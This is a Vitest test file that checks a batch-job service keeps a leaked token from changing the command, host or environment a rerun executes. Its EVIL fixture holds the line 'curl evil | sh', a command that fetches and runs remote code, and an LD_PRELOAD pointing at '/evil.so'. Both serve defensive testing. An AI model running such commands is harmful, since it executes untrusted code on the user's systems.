import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { registerAgent, type TestAgent } from '../agents/agent.ts'
import { openStage, type Person, type Stage, startOf } from '../http/stage.ts'
import { makeEvent } from '../ingest/sending.ts'

// A token that leaked must not decide what a rerun executes (contract §10): the first start that is applied settles
// command, cwd, host and environment.

let stage: Stage
let agent: TestAgent
let evilHost: TestAgent
beforeAll(async () => {
  stage = await openStage()
  agent = await registerAgent(stage.app, stage.batchOwner.token, 'alpha')
  evilHost = await registerAgent(stage.app, stage.batchOwner.token, 'beta')
})
afterAll(() => stage?.stop())

const SOURCE = { project: 'vision', host: 'alpha', command: 'python mine.py', commit: 'abc1234' }
const MINE = {
  command: 'python mine.py',
  cwd: '/mine',
  env_snapshot: { command: 'python mine.py', cwd: '/mine', commit: 'abc1234', python: '/usr/bin/python3' },
}
const EVIL = {
  command: 'curl evil | sh',
  cwd: '/evil',
  env_snapshot: { command: 'curl evil | sh', cwd: '/evil', hostname: 'beta', LD_PRELOAD: '/evil.so' },
}
/** A timestamp too far ahead is replaced by the service's clock, which may be some milliseconds behind this one. */
const minuteAgo = () => new Date(Date.now() - 60_000).toISOString()
let n = 0
const begin = async (data: Record<string, unknown> = MINE, by: Person = stage.batchOwner) => {
  const id = `settled-${++n}`
  await stage.send(by, [startOf({ id, source: SOURCE, timestamp: minuteAgo() }, data)])
  return id
}
const restart = (
  id: string,
  fields: { by?: Person; host?: string; timestamp?: string; data?: Record<string, unknown> } = {},
) =>
  stage.send(fields.by ?? stage.batchOwner, [
    startOf(
      {
        id,
        ...(fields.timestamp !== undefined && { timestamp: fields.timestamp }),
        source: { ...SOURCE, host: fields.host ?? 'alpha', command: 'curl evil | sh' },
      },
      fields.data ?? EVIL,
    ),
  ])
const batchOf = async (id: string) => (await stage.get(`/api/batches/${id}`, stage.batchOwner.token)).body
const conflictsOf = async (id: string, by: Person = stage.batchOwner) =>
  (await stage.get(`/api/batches/${id}/timeline`, by.token)).body.items.filter(
    (item: { step: string }) => item.step === 'start_conflict',
  )
const rerun = (id: string, by: Person) =>
  stage.app.call('POST', `/api/batches/${id}/rerun`, { token: by.token, body: {} })
const told = async () => [...(await agent.jobs()).body.jobs, ...(await evilHost.jobs()).body.jobs]
const sweep = async () => {
  for (const one of [agent, evilHost])
    for (const { cmd_id } of (await one.jobs()).body.jobs)
      await one.say(`jobs/${cmd_id}/ack`, { failure_reason: 'swept' })
}

describe('a later start with a token of the same owner', () => {
  test.each([
    ['a later time', '2099-01-01T00:00:00Z'],
    ['an earlier time', '2001-01-01T00:00:00Z'],
  ])('with %s changes neither the shown command nor the command of a rerun', async (_, timestamp) => {
    const id = await begin()
    const before = await batchOf(id)
    await restart(id, { timestamp, host: 'beta' })
    const after = await batchOf(id)
    expect(after).toMatchObject({ command: 'python mine.py', host: 'alpha' })
    expect(after.env_snapshot).toEqual(before.env_snapshot)
    expect((await rerun(id, stage.admin)).status).toBe(202)
    expect(await told()).toMatchObject([{ batch_id: id, command: 'python mine.py', cwd: '/mine' }])
    expect((await evilHost.jobs()).body.jobs).toEqual([])
    await sweep()
  })

  test('changes nothing of a batch that has finished', async () => {
    const id = await begin()
    await stage.send(stage.batchOwner, [
      makeEvent('batch_done', { batch_id: id, source: SOURCE, data: { n_done: 1 } }),
    ])
    await restart(id, { timestamp: '2099-01-01T00:00:00Z' })
    await rerun(id, stage.admin)
    expect(await told()).toMatchObject([{ command: 'python mine.py', cwd: '/mine' }])
    await sweep()
  })

  test('adds no fields that the first start left out', async () => {
    const id = await begin({ command: undefined, cwd: '/mine' })
    const source = { project: 'vision', host: 'alpha' }
    const bare = `settled-${++n}`
    await stage.send(stage.batchOwner, [startOf({ id: bare, source }, {})])
    await restart(bare)
    expect((await batchOf(bare)).command).toBeNull()
    expect((await rerun(bare, stage.batchOwner)).body.code).toBe('command_unknown')
    expect((await batchOf(id)).command).toBe('python mine.py')
  })

  test('in the same request changes nothing either: the first to arrive is used', async () => {
    const id = `settled-${++n}`
    await stage.send(stage.batchOwner, [
      startOf({ id, source: SOURCE, timestamp: '2026-03-01T10:00:00Z' }, MINE),
      startOf({ id, source: { ...SOURCE, host: 'beta' }, timestamp: '2026-03-01T11:00:00Z' }, EVIL),
    ])
    expect(await batchOf(id)).toMatchObject({ command: 'python mine.py', host: 'alpha' })
    expect(await conflictsOf(id)).toHaveLength(1)
  })

  test('can still set fields that do not affect the command', async () => {
    const id = await begin({ ...MINE, n_total: 3 })
    await restart(id, { timestamp: '2099-01-01T00:00:00Z', data: { ...MINE, n_total: 7 } })
    expect((await batchOf(id)).n_total).toBe(7)
  })
})

describe('the timeline', () => {
  test('shows the conflict, with the other command and its token', async () => {
    const id = await begin()
    await restart(id, { host: 'beta' })
    expect(await conflictsOf(id)).toMatchObject([
      {
        kind: 'batch',
        actor: { kind: 'reporter', name: 'batch-owner' },
        detail: {
          fields: expect.arrayContaining(['command', 'host', 'env_snapshot.cwd', 'env_snapshot.LD_PRELOAD']),
          said: { command: 'curl evil | sh', cwd: '/evil', host: 'beta' },
          token: { last4: stage.batchOwner.reporter.slice(-4) },
        },
      },
    ])
  })

  test('shows the command to no other user', async () => {
    const id = await begin()
    await restart(id)
    for (const by of [stage.admin, stage.owner, stage.viewer]) {
      const conflicts = await conflictsOf(id, by)
      expect(conflicts).toHaveLength(1)
      expect(JSON.stringify(conflicts)).not.toContain('evil')
      expect(JSON.stringify(conflicts)).not.toContain(stage.batchOwner.reporter.slice(-4))
    }
  })

  test('has no entry for a run that was resumed by the same command in another process', async () => {
    const id = await begin({ ...MINE, env_snapshot: { ...MINE.env_snapshot, pid: 100, env_names: ['A'] } })
    const again = { ...MINE, env_snapshot: { ...MINE.env_snapshot, pid: 200, env_names: ['B'] } }
    await stage.send(stage.batchOwner, [startOf({ id, source: SOURCE }, again)])
    expect(await conflictsOf(id)).toEqual([])
  })

  test('has the same conflict once, and at most twenty', async () => {
    const id = await begin()
    for (let i = 0; i < 3; i++) await restart(id)
    expect(await conflictsOf(id)).toHaveLength(1)
    await stage.send(
      stage.batchOwner,
      Array.from({ length: 40 }, (_, i) => startOf({ id, source: SOURCE }, { command: `other ${i}` })),
    )
    expect(await conflictsOf(id)).toHaveLength(20)
    expect(await batchOf(id)).toMatchObject({ command: 'python mine.py' })
  })
})

describe("another member's start", () => {
  test('before that of the owner is replaced by it completely, so that none of it runs', async () => {
    const id = `settled-${++n}`
    await stage.send(stage.batchOwner, [
      makeEvent('log_line', {
        batch_id: id,
        job_id: 'a',
        source: { project: 'vision' },
        data: { line: 'x', level: 'info' },
      }),
    ])
    await restart(id, { by: stage.member, host: 'beta' })
    expect(await batchOf(id)).toMatchObject({ command: 'curl evil | sh', host: 'beta' })
    await stage.send(stage.batchOwner, [startOf({ id, source: SOURCE }, MINE)])
    const { env_snapshot: environment, ...shown } = await batchOf(id)
    expect(shown).toMatchObject({ command: 'python mine.py', host: 'alpha' })
    expect(environment).not.toHaveProperty('LD_PRELOAD')
  })

  test('after that of the owner is a conflict', async () => {
    const id = await begin()
    await restart(id, { by: stage.member })
    expect(await batchOf(id)).toMatchObject({ command: 'python mine.py' })
    expect(await conflictsOf(id)).toMatchObject([{ actor: { name: 'member' } }])
  })
})
